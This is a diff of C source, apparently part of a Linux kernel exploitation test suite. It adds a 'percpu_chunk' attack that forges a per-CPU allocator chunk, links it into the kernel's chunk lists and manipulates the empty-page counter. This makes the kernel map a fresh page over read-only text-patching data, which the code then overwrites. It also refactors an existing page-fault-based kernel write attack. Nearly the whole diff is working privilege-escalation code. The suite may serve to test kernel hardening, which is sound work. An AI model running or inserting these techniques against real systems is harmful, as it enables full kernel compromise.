@@ -1,9 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * Attack on what is found by its kernel address. The attacker's own list of
- * mappings gets one more, above user space, and the kernel writes to it for him:
- * nobody asks whether it is in user space when the kernel itself looks it up. So
- * what is read-only there is copied as after fork(), and the address maps the copy.
+ * Attacks on what is found by its kernel address: the kernel is made to map
+ * another page there. Here it is a page of the list of what text is to be patched,
+ * which is believed because of where it is.
  */
 #include <string.h>
 #include <sys/mman.h>
@@ -29,6 +28,21 @@
 
 #define VM_LOCKED	0x2000UL	/* nobody looks for who maps it */
 #define REFERENCES	8
+
+/* struct pcpu_chunk, with a vector of memory cgroups ahead of the numbers or without */
+#define CHUNKS		"pcpu_chunk_lists"
+#define UNIT_OFFSETS	"pcpu_unit_offsets"
+#define EMPTY_PAGES	"pcpu_nr_empty_pop_pages"
+#define PAGE_SLOT	10		/* lists of chunks with a page and more */
+#define LIST_SIZE	16
+#define CHUNK_NEXT	0
+#define CHUNK_PREV	8
+#define CHUNK_BASE	64
+#define CHUNK_PAGES	112
+#define CHUNK_PAGES_MEMCG 120
+#define FEW_PAGES	1		/* the kernel maps more of them */
+#define TRIES		10
+#define PAUSE		50000		/* microseconds */
 
 static uint64_t find_root(uint64_t mm)
 {
@@ -120,8 +134,7 @@ static bool write_by_fault(uint64_t addr, void *data, size_t len)
 	return true;
 }
 
-/* The kernel's list of what is to be patched is believed for where it is. */
-enum outcome fault_kernel_address(void)
+static enum outcome patch_by_own_page(bool (*store)(uint64_t addr, void *data, size_t len))
 {
 	struct slot slot;
 
@@ -130,11 +143,145 @@ enum outcome fault_kernel_address(void)
 		return broken("the kernel has no list of what is to be patched");
 	if (slot.level != LEVEL_PTE)
 		return skipped("what is read-only is not mapped by pages");
-	return patch_by_own_entry(write_by_fault);
+	if (pte_is_writable(slot.value))
+		return broken("an attack was here before");
+	return patch_by_own_entry(store);
+}
+
+/*
+ * The attacker's own list of mappings gets one more, above user space, and the
+ * kernel writes to it for him: nobody asks whether it is in user space when the
+ * kernel itself looks it up. What is read-only there is copied as after fork().
+ */
+enum outcome fault_kernel_address(void)
+{
+	return patch_by_own_page(write_by_fault);
+}
+
+static void link_chunk(uint64_t chunk, uint64_t list)
+{
+	uint64_t next = kread64(list + CHUNK_NEXT);
+
+	kwrite64(chunk + CHUNK_NEXT, next);
+	kwrite64(chunk + CHUNK_PREV, list);
+	kwrite64(next + CHUNK_PREV, chunk);
+	kwrite64(list + CHUNK_NEXT, chunk);
+}
+
+static void unlink_chunk(uint64_t chunk)
+{
+	uint64_t next = kread64(chunk + CHUNK_NEXT), prev = kread64(chunk + CHUNK_PREV);
+
+	kwrite64(prev + CHUNK_NEXT, next);
+	kwrite64(next + CHUNK_PREV, prev);
+}
+
+static uint64_t unit_offset(int cpu)
+{
+	return kread64(kread64(ksymbol(UNIT_OFFSETS)) + cpu * sizeof(uint64_t));
+}
+
+static uint64_t page_at(uint64_t addr)
+{
+	struct slot slot;
+
+	return !kwalk(addr, LEAF, 0, &slot) && slot.value & PTE_PRESENT ? slot.page : 0;
+}
+
+/* Of other CPUs a page is mapped as well, behind this one. */
+static bool are_others_mapped(uint64_t addr, bool mapped)
+{
+	int cpu, nr = sysconf(_SC_NPROCESSORS_CONF);
+
+	for (cpu = 1; cpu < nr; cpu++)
+		if (mapped != !!page_at(addr + unit_offset(cpu) - unit_offset(0)))
+			return false;
+	return true;
+}
+
+/* Of one page for each CPU, which is not there yet, and with no room for anybody. */
+static uint64_t forge_chunk(uint64_t addr)
+{
+	struct kernel_page chunk;
+	const int one = 1;
+
+	if (!kernel_page(&chunk))
+		return 0;
+	kwrite64(chunk.addr + CHUNK_BASE, addr - unit_offset(0));
+	kwrite(chunk.addr + CHUNK_PAGES, &one, sizeof(one));
+	kwrite(chunk.addr + CHUNK_PAGES_MEMCG, &one, sizeof(one));
+	return chunk.addr;
+}
+
+/* A process has memory of each CPU. Where there is little left more is mapped. */
+static void use_percpu_memory(void)
+{
+	const int few = FEW_PAGES;
+	pid_t pid;
+
+	kwrite(ksymbol(EMPTY_PAGES), &few, sizeof(few));
+	pid = fork();
+	if (!pid)
+		_exit(0);
+	waitpid(pid, NULL, 0);
+	usleep(PAUSE);
+}
+
+/* Where a page is in the way the kernel gives up, and unmaps it. Next time none is. */
+static bool map_percpu_page(uint64_t addr, uint64_t chunk)
+{
+	uint64_t old = page_at(addr), page = old;
+	int i, nr;
+
+	if (kread(ksymbol(EMPTY_PAGES), &nr, sizeof(nr)))
+		return false;
+	link_chunk(chunk, kread64(ksymbol(CHUNKS)) + PAGE_SLOT * LIST_SIZE);
+	for (i = 0; i < TRIES && (!page || page == old || !are_others_mapped(addr, true)); i++) {
+		use_percpu_memory();
+		page = page_at(addr);
+	}
+	unlink_chunk(chunk);
+	kwrite(ksymbol(EMPTY_PAGES), &nr, sizeof(nr));
+	return page && page != old;
+}
+
+/* What is in it stays as it is. */
+static bool replace_page(uint64_t addr, bool *is_replaced)
+{
+	uint64_t chunk = forge_chunk(addr);
+	char copy[PAGE_SIZE];
+
+	if (!chunk || !are_others_mapped(addr, false) || kread(addr, copy, sizeof(copy)))
+		return false;
+	*is_replaced = map_percpu_page(addr, chunk);
+	return !*is_replaced || !kwrite(addr, copy, sizeof(copy));
+}
+
+static bool write_by_chunk(uint64_t addr, void *data, size_t len)
+{
+	static bool is_tried, is_replaced;
+
+	if (!is_tried && !replace_page(addr & -PAGE_SIZE, &is_replaced))
+		return false;
+	is_tried = true;
+	if (is_replaced)
+		kwrite(addr, data, len);
+	return true;
+}
+
+/* Memory of each CPU is mapped where a chunk says that it is. */
+enum outcome percpu_chunk(void)
+{
+	return patch_by_own_page(write_by_chunk);
 }
 #else
 enum outcome fault_kernel_address(void)
 {
 	return skipped("a process has no tables of kernel addresses on this architecture");
+}
+
+enum outcome percpu_chunk(void)
+{
+	return skipped("the kernel's list of places is not mapped by pages");
 }
 #endif
